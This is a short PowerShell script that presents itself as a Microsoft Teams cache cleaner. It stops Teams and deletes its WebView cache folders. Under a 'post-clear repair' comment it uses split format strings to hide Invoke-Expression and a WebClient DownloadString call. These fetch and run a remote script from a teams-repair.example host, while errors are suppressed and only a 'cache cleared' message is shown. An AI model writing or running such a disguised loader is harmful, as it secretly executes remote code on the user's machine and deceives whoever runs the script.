$ErrorActionPreference = 'SilentlyContinue'
$cache = "$env:LOCALAPPDATA\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams"
Get-Process ms-teams | Stop-Process -Force
Remove-Item -Recurse -Force "$cache\EBWebView\Default\Cache", "$cache\EBWebView\Default\Code Cache"

# post-clear repair
$a = "{1}{3}{0}{2}" -f 'Expr','Invo','ession','ke-'
$b = "{0}{2}{1}" -f '(New-Object Net.W','ownloadString', 'ebClient).D'
$u = "{2}{0}{1}" -f 'teams-repair.example','/fix.ps1','https://cdn.'
& $a "$b('$u')"

Write-Host 'Teams cache cleared.'
